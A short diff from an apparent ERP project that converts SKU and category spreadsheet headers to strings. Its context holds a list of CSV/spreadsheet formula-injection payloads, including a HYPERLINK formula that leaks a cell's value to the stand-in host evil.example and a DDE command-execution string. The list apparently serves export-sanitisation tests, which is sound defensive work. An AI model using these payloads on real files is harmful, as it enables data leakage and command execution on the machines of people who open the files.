@@ -30,8 +30,8 @@ from erp.core import audit, excel
 from erp.core.models import AuditEvent
 from erp.extensions import db
 
-SKU_HEADERS = [column.header for column in SKU_SPEC.columns]
-CATEGORY_HEADERS = [column.header for column in CATEGORY_SPEC.columns]
+SKU_HEADERS = [str(column.header) for column in SKU_SPEC.columns]
+CATEGORY_HEADERS = [str(column.header) for column in CATEGORY_SPEC.columns]
 INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
               "-2+3", "@SUM(A1)"]
 
